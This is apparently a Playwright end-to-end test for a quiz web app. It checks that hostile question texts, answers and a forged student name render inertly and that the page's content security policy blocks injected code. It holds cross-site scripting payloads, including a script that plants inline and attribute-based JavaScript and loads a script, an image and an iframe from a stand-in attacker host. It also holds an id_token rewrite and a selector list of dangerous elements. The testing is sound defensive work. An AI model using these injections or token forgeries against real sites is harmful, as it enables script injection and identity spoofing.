/** A test whose every text is hostile, in the built page with its real headers: nothing runs, loads or leads away. */
import type { Page } from '@playwright/test';
import * as z from 'zod/mini';
import { evilHost, hostileAnswer, hostileLine, hostileTest, planted } from '../support/hostile-source.ts';
import { freshTestId } from '../support/import-test.ts';
import type { TestStack } from '../support/target.ts';
import { expect, test } from './fixtures.ts';
import { expectNothingSideways } from './looks.ts';
import type { Person } from './person.ts';

/** Elements and attributes that would act; none of them is ever part of the page. */
const acting = [
  'iframe, object, embed, base, meta[http-equiv=refresh], style[data-planted], form[action]',
  '[onerror], [onload], [ontoggle], [onmouseover], [onclick]',
  'a[href^="javascript:" i], a[href^="data:" i], a[href^="file:" i]',
  `img[src*="${evilHost}"], link[href*="${evilHost}"], script:not([src])`,
].join(', ');

interface Watch {
  /** Origins that anything was asked of. */
  readonly origins: Set<string>;
  readonly dialogs: string[];
  /** What the content security policy had to stop. */
  readonly violations: string[];
}

const reportViolations = `document.addEventListener('securitypolicyviolation', (event) =>
  window.reportViolation(event.effectiveDirective + ' ' + event.blockedURI));`;

/** Sees everything that a page of this person does behind its face. */
async function watch(person: Person): Promise<Watch> {
  const seen: Watch = { origins: new Set(), dialogs: [], violations: [] };
  person.context.on('request', (request) => seen.origins.add(new URL(request.url()).origin));
  person.page.on('dialog', async (dialog) => {
    seen.dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  await person.page.exposeFunction('reportViolation', (text: string) => seen.violations.push(text));
  await person.page.addInitScript({ content: reportViolations });
  return seen;
}

async function expectHarmless(page: Page): Promise<void> {
  await expect(page.locator('[data-pending]')).toHaveCount(0);
  await expect(page.locator(acting)).toHaveCount(0);
  expect(await page.evaluate(`'${planted}' in window`)).toBe(false);
  await page.setViewportSize({ width: 390, height: 844 });
  await expectNothingSideways(page);
  await page.setViewportSize({ width: 1280, height: 800 });
}

/** The same token for another name: the page believes what its provider says of the person. */
async function renameStudent(page: Page, name: string): Promise<void> {
  // As our own provider calls it, and as Cognito does.
  await page.route(/\/(?:oidc|oauth2)\/token$/, async (route) => {
    const response = await route.fetch();
    const tokens: unknown = await response.json();
    const [head, body = '', signature] = String(Reflect.get(Object(tokens), 'id_token')).split('.');
    const claims = { ...JSON.parse(Buffer.from(body, 'base64url').toString()), name };
    const idToken = [head, Buffer.from(JSON.stringify(claims)).toString('base64url'), signature].join('.');
    await route.fulfill({ response, json: { ...Object(tokens), id_token: idToken } });
  });
}

/** Where people sign in: at the page's own origin with the local stack, at Cognito's with a deployed one. */
async function signInOrigin({ url }: TestStack): Promise<string> {
  const { issuer } = z.parse(z.object({ issuer: z.url() }), await (await fetch(`${url}/config.json`)).json());
  return new URL(issuer).origin;
}

test('a whole sitting of hostile texts runs nothing, loads nothing and breaks no policy', async ({
  stack,
  visitor,
  publish,
}) => {
  const testId = freshTestId('hostile');
  const title = `${hostileLine} ${testId}`;
  await publish(hostileTest(testId));
  const ada = await visitor();
  const seen = await watch(ada);
  await renameStudent(ada.page, hostileLine);
  await ada.signIn('ada');
  await expect(ada.card(title)).toBeVisible();
  await expect(ada.page.getByText(hostileLine, { exact: true }).first()).toBeAttached();
  await expectHarmless(ada.page);

  await ada.card(title).getByRole('link', { name: 'View test' }).click();
  await expect(ada.heading(title)).toBeVisible();
  await expectHarmless(ada.page);
  await ada.button(/^Start test/).click();
  for (let number = 1; number <= 7; number += 1) {
    await expect(ada.heading(`Question ${number}`)).toBeVisible();
    await expectHarmless(ada.page);
    // Raw HTML is shown as what was written.
    await expect(ada.page.getByText(`<script>window.${planted}=1</script>`).first()).toBeVisible();
    if (number === 5) {
      await ada.page.getByRole('textbox').fill(hostileAnswer);
      await ada.untilSaved();
    }
    if (number < 7) await ada.next();
  }
  await ada.submit();
  await expectHarmless(ada.page);

  await ada.page.goto(`/attempts/${encodeURIComponent(`${testId}~1~1`)}`);
  // Another document: each tab signs in for itself.
  if (await ada.button('Sign in').isVisible()) await ada.button('Sign in').click();
  await expect(ada.heading(title)).toBeVisible();
  await expect(ada.page.getByText(hostileAnswer, { exact: true })).toBeVisible();
  await expectHarmless(ada.page);

  expect(seen.origins).toEqual(new Set([new URL(ada.page.url()).origin, await signInOrigin(stack)]));
  expect(seen.dialogs).toEqual([]);
  expect(seen.violations).toEqual([]);
});

/** As a hole in the page would do it: inline, in an attribute, from elsewhere, as a text that is run, in a frame. */
const plantEverything = `{
  const run = 'window.${planted} = 1';
  const script = Object.assign(document.createElement('script'), { textContent: run });
  const button = document.createElement('button');
  button.setAttribute('onclick', run);
  const foreign = Object.assign(document.createElement('script'), { src: 'https://${evilHost}/x.js' });
  const picture = Object.assign(document.createElement('img'), { src: 'https://${evilHost}/pixel.png' });
  const frame = Object.assign(document.createElement('iframe'), { src: 'https://${evilHost}/' });
  document.body.append(script, button, foreign, picture, frame);
  button.click();
  setTimeout(run);
}`;

test('what is planted all the same, the policy of the page stops, and the watch sees it', async ({ visitor }) => {
  const visitorPage = await visitor();
  const seen = await watch(visitorPage);
  const { page } = visitorPage;
  visitorPage.expectComplaint(/Content Security Policy|violates the following/);
  const response = await page.goto('/');
  const policy = response?.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("script-src 'self';");
  expect(policy).not.toContain('unsafe-eval');

  const reached: string[] = [];
  visitorPage.context.on('response', (reply) => reached.push(reply.url()));
  await page.evaluate(plantEverything);
  await expect
    .poll(() => seen.violations.map((violation) => violation.split(' ')[0]).sort())
    .toEqual(['frame-src', 'img-src', 'script-src', 'script-src-attr', 'script-src-elem', 'script-src-elem']);
  expect(await page.evaluate(`'${planted}' in window`)).toBe(false);
  expect(reached.filter((address) => address.includes(evilHost))).toEqual([]);
});
